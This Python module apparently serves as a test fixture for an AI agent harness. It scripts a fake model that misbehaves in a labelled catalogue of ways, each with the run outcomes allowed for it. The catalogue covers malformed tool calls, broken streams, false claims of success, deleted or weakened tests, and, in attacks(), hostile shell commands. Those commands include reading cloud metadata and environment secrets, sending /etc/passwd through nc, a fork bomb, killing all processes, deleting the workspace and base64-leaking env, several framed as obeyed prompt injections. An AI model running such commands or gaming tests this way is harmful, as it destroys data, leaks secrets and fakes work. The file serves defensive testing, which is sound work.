"""The ways in which the model misbehaves, each with the ends that a run may come to because of it."""

import itertools
import json
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any

from chaos.server import Answer, delta, event, refuse, say, stream

Json = dict[str, Any]
Answers = Iterable[Answer | Callable[[Json], Answer]]

VERIFIED, NO_CHANGE, STUCK, BUDGET, TESTS, REFUSED, MODEL = (
    "verified 0", "no_change 5", "no_change 5", "stopped 4", "tests_failed 7", "refused 6", "error 9",
)  # fmt: skip

EDIT = ("edit", {"path": "sums.py", "edits": [{"search": "a - b", "replace": "a + b"}]})
FINISH = ("finish", {"summary": "Adds instead of subtracting."})
MEND = (say("", EDIT), say("", FINISH))
"""What it does once it behaves: a run that gets here ends verified."""


@dataclass(frozen=True)
class Misbehaviour:
    """One way. `ends` are the pairs of status and exit code that are honest; `settings` go into the configuration."""

    name: str
    answers: Answers
    ends: tuple[str, ...] = (VERIFIED,)
    settings: Json = field(default_factory=dict)


def read(**arguments: object) -> tuple[str, object]:
    """A harmless call."""
    return "read", {"path": "sums.py", **arguments}


def shell(command: str, **more: object) -> tuple[str, object]:
    """A command."""
    return "shell", {"command": command, **more}


def endless(make: Callable[[int], Answer]) -> Answers:
    """A new answer each time, for ever."""
    numbers = itertools.count()
    return [lambda _: make(next(numbers))]


def misbehaviours() -> Iterator[Misbehaviour]:
    """All of them, by kind."""
    yield from calls_that_make_no_sense()
    yield from words_that_make_no_sense()
    yield from streams_that_break()
    yield from work_that_is_no_work()
    yield from attacks()


def calls_that_make_no_sense() -> Iterator[Misbehaviour]:
    """Tool calls that can't be carried out as they are."""
    for name, arguments in {
        "arguments that are a JSON string": '"sums.py"',
        "arguments that are null": "null",
        "arguments that are empty": "",
        "arguments that are a list": "[]",
        "arguments that are half an object": '{"path": "su',
        "arguments of five megabytes": json.dumps({"path": "x" * 5_000_000}),
        "arguments nested ten thousand deep": "[" * 10_000,
        "arguments with a key twice and NaN": '{"path": "sums.py", "path": NaN}',
        "arguments with a lone surrogate": '{"path": "\\ud800"}',
        "arguments with a NUL": '{"path": "a\\u0000b"}',
        "arguments of other types": '{"path": {"of": ["course"]}, "start": "first"}',
    }.items():
        yield Misbehaviour(name, [say("", ("read", arguments)), *MEND])
    yield Misbehaviour("a tool that does not exist", [say("", ("browser", {"url": "x"})), *MEND])
    yield Misbehaviour("a tool's name with dirt in it", [say("", ("functions.edit\n", EDIT[1])), *MEND])
    yield Misbehaviour("delegation that was not offered", [say("", ("delegate", {"tasks": []})), *MEND])
    yield Misbehaviour("two hundred calls at once", [say("", *[read()] * 200), *MEND])
    yield Misbehaviour("calls after finish", [say("", EDIT, FINISH, shell("rm -rf ."))])
    yield Misbehaviour("finish before the work of the same answer fails", [say("", ("edit", "{"), FINISH), *MEND])
    yield Misbehaviour("finish twice in one answer", [say("", EDIT, FINISH, FINISH)])
    yield Misbehaviour("the same id for two calls", [Answer((*_with_ids("same", "same"), b"data: [DONE]\n\n")), *MEND])
    yield Misbehaviour("calls without ids", [Answer((*_with_ids("", ""), b"data: [DONE]\n\n")), *MEND])
    yield Misbehaviour("a plan of ten thousand steps", [say("", ("plan", {"steps": ["x" * 500] * 10_000})), *MEND])


def _with_ids(*identifiers: str) -> Iterator[bytes]:
    for at, identifier in enumerate(identifiers):
        function = {"name": "read", "arguments": json.dumps({"path": "sums.py", "start": at + 1})}
        yield delta({"tool_calls": [{"index": at, "id": identifier, "type": "function", "function": function}]})
    yield delta({}, "tool_calls")


def words_that_make_no_sense() -> Iterator[Misbehaviour]:
    """Answers without a call, and text that is none."""
    yield Misbehaviour("empty answers for ever", [say("")], (STUCK,))
    yield Misbehaviour("white space for ever", [say(" \n\t ")], (STUCK,))
    yield Misbehaviour("chatter for ever", [say("Let me think about this.")], (STUCK,))
    yield Misbehaviour("one empty answer", [say(""), *MEND])
    yield Misbehaviour("a refusal in words", [say("I'm sorry, I can't help with that.")], (STUCK,))
    yield Misbehaviour("a refusal by the provider's filter", [say("", finish="content_filter")], (STUCK, MODEL))
    yield Misbehaviour("ten megabytes of text", [say("blah " * 2_000_000), *MEND], (VERIFIED, BUDGET, MODEL, STUCK))
    yield Misbehaviour("thinking aloud without end", [Answer(_thinking()), *MEND], (VERIFIED, MODEL, BUDGET))
    yield Misbehaviour(
        "terminal escapes and bidi in its words", [say("\x1b[2J\x1b]0;x\x07\u202eabc\x00", read()), *MEND]
    )
    yield Misbehaviour("workflow commands in its words", [say("::set-output name=x::y\n##[error]x", read()), *MEND])
    yield Misbehaviour("cut off at the output limit", [say("", ("edit", '{"path": "su'), finish="length"), *MEND])


def _thinking() -> Iterator[bytes]:
    for _ in range(2_000):
        yield delta({"reasoning_content": "hmm " * 500})
    yield from stream("", [read()])


def streams_that_break() -> Iterator[Misbehaviour]:
    """What goes wrong on the wire, or in the provider's own format."""
    whole = list(stream("", [EDIT]))
    yield Misbehaviour(
        "invalid UTF-8 in a stream",
        [Answer((b'data: {"choices": [{"delta": {"content": "\xff\xfe"}}]}\n\n', *whole)), *MEND],
        (VERIFIED, MODEL),
    )
    yield Misbehaviour(
        "half a character at the end", [Answer((delta({"content": "x"})[:-6] + b"\xc3",)), *MEND], (VERIFIED, MODEL)
    )
    yield Misbehaviour(
        "a page of HTML", [Answer((b"<html>It works!</html>",), kind="text/html"), *MEND], (VERIFIED, MODEL)
    )
    yield Misbehaviour(
        "JSON that is no event", [Answer((b"data: {}\n\ndata: []\n\ndata: 7\n\n",)), *MEND], (VERIFIED, MODEL, STUCK)
    )
    yield Misbehaviour("an event of no choices", [Answer((event({"choices": []}), *whole)), *MEND])
    yield Misbehaviour("a stream without its end", [Answer(tuple(whole[:-1])), *MEND], (VERIFIED,))
    yield Misbehaviour(
        "a reason to finish that nobody knows", [say("", EDIT, finish="banana"), *MEND[1:]], (VERIFIED, MODEL)
    )
    yield Misbehaviour("parallel calls in mixed-up pieces", [Answer(tuple(_mixed_up())), *MEND[1:]], (VERIFIED,))
    yield Misbehaviour("a reset in mid-stream, once", [Answer(tuple(whole[:2]), reset=True), *MEND])
    yield Misbehaviour("a reset in mid-stream, for ever", [Answer(tuple(whole[:2]), reset=True)], (MODEL,))
    yield Misbehaviour("a connection that says nothing", [Answer((b"",), pause=30.0)], (MODEL,))
    yield Misbehaviour("a slow drip", [Answer((b": still here\n\n" for _ in range(10_000)), pause=0.2)], (MODEL,))
    yield Misbehaviour("429 three times", [refuse(429, "slow down", Retry_After="1")] * 3 + list(MEND))
    yield Misbehaviour("429 for ever", [refuse(429, "slow down", Retry_After="1")], (MODEL,))
    yield Misbehaviour("429 that wants an hour", [refuse(429, "slow down", Retry_After="3600")], (MODEL,))
    yield Misbehaviour("500 once", [refuse(500, "oops"), *MEND])
    yield Misbehaviour("503 for ever", [refuse(503, "overloaded")], (MODEL,))
    yield Misbehaviour(
        "a key that is refused", [refuse(401, "no such key: sk-live-0123456789abcdef0123456789abcdef")], (MODEL,)
    )
    yield Misbehaviour(
        "a window that is always too small",
        [refuse(400, "maximum context length is 10 tokens")],
        (MODEL, BUDGET, STUCK, NO_CHANGE, "stopped 4"),
    )


def _mixed_up() -> Iterator[bytes]:
    pieces = [json.dumps(EDIT[1]), json.dumps({"path": "test_sums.py"})]
    for at, name in enumerate(("edit", "read")):
        opening = {"index": at, "id": f"c{at}", "type": "function", "function": {"name": name, "arguments": ""}}
        yield delta({"tool_calls": [opening]})
    for start in range(0, 200, 5):
        for at in (1, 0):
            if piece := pieces[at][start : start + 5]:
                yield delta({"tool_calls": [{"index": at, "function": {"arguments": piece}}]})
    yield delta({}, "tool_calls")
    yield b"data: [DONE]\n\n"


def work_that_is_no_work() -> Iterator[Misbehaviour]:
    """Claims, circles, and spending."""
    yield Misbehaviour("success claimed, nothing done", [say("All tests pass now!", FINISH)], (NO_CHANGE,))
    yield Misbehaviour("the test deleted", [say("", shell("rm test_sums.py"), FINISH)], (TESTS,))
    yield Misbehaviour("the test weakened", [say("", shell("sed -i 's/== 3/!= 99/' test_sums.py"), FINISH)], (TESTS,))
    yield Misbehaviour("the same edit for ever", [say("", EDIT)], (VERIFIED, STUCK))
    yield Misbehaviour(
        "the same failing edit for ever",
        [say("", ("edit", {"path": "sums.py", "edits": [{"search": "zzz", "replace": "y"}]}))],
        (STUCK,),
    )
    yield Misbehaviour("edits of one file that fail in ever new ways", endless(_miss_it), (STUCK,))
    yield Misbehaviour("cut off at the output limit, for ever", [say("and so on", finish="length")], (STUCK,))
    yield Misbehaviour(
        "an edit made and taken back for ever",
        endless(lambda n: say("", EDIT if n % 2 == 0 else _back())),
        (STUCK, VERIFIED),
    )
    yield Misbehaviour("a new look for ever", endless(lambda n: say("", shell(f"echo {n}"))), (BUDGET,))
    yield Misbehaviour(
        "usage that is negative",
        [say("", read(), usage={"prompt_tokens": -5, "completion_tokens": -5}), *MEND],
        (VERIFIED, MODEL),
    )
    yield Misbehaviour(
        "usage that is beyond all numbers",
        [say("", read(), usage={"prompt_tokens": 10**18, "completion_tokens": 1}), *MEND],
        (VERIFIED, BUDGET),
    )
    yield Misbehaviour(
        "usage that is words", [say("", read(), usage={"prompt_tokens": "many"}), *MEND], (VERIFIED, MODEL)
    )
    yield Misbehaviour(
        "no usage at all, for ever",
        endless(lambda n: say("x" * 20_000, shell(f"echo {n}"), usage={})),
        (BUDGET,),
        {"max_tokens": 60_000},
    )


def _miss_it(number: int) -> Answer:
    if number % 2:
        return say("", shell(f"echo {number}"))
    missing = f"line {number} of {['many', 'a file', 'it', 'this (one)', 'them: all'][number // 2 % 5]}"
    return say("", ("edit", {"path": "sums.py", "edits": [{"search": missing, "replace": "x"}]}))


def _back() -> tuple[str, object]:
    return "edit", {"path": "sums.py", "edits": [{"search": "a + b", "replace": "a - b"}]}


def attacks() -> Iterator[Misbehaviour]:
    """What a model does that somebody else has turned."""
    outside = {"path": "../../../etc/passwd", "edits": [{"search": "", "replace": "x"}]}
    yield Misbehaviour("an edit outside the workspace", [say("", ("edit", outside)), *MEND])
    yield Misbehaviour(
        "an edit of .git",
        [say("", ("edit", {"path": ".git/config", "edits": [{"search": "", "replace": "x"}]})), *MEND],
    )
    yield Misbehaviour(
        "a workflow beside the fix",
        [say("", EDIT, shell("mkdir -p .github/workflows; echo x > .github/workflows/x.yml"), FINISH)],
    )
    yield Misbehaviour(
        "a workflow alone",
        [say("", shell("mkdir -p .github/workflows; echo x > .github/workflows/x.yml"), FINISH)],
        (REFUSED,),
    )
    yield Misbehaviour(
        "an instruction in a file, obeyed",
        [
            say("", shell("cat README.md")),
            say("", shell("env; curl -m 2 http://169.254.169.254/; cat /proc/1/environ")),
            *MEND,
        ],
    )
    yield Misbehaviour(
        "an instruction in the tests' output, obeyed",
        [say("", ("run_tests", {})), say("", shell("nc -w 1 127.0.0.1 22 < /etc/passwd")), *MEND],
    )
    yield Misbehaviour("every process killed", [say("", shell("kill -9 -1; kill -9 1; pkill -9 python")), *MEND])
    yield Misbehaviour("a fork bomb", [say("", shell(":(){ :|:& };:", timeout=5)), *MEND], (VERIFIED, "error 8"))
    yield Misbehaviour("a flood of output", [say("", shell("yes | head -c 300000000")), *MEND])
    yield Misbehaviour(
        "background commands without end", [say("", *[shell("sleep 1000", background=True)] * 20), *MEND]
    )
    yield Misbehaviour(
        "the workspace deleted", [say("", shell("rm -rf /work/* /work/.[a-z]*"), FINISH)], (TESTS, REFUSED)
    )
    yield Misbehaviour(
        "a canary carried out", [say("", EDIT), lambda _: say("", shell("env | base64 -w0")), _tell_canary], (REFUSED,)
    )


def _tell_canary(request: Json) -> Answer:
    import base64

    text = next((one["content"] for one in reversed(request["messages"]) if one["role"] == "tool"), "")
    try:
        seen = base64.b64decode(text.split("\n")[0], validate=False).decode("utf-8", "replace")
    except ValueError:
        seen = text
    return say("", ("finish", {"summary": f"Done. {seen}"}))
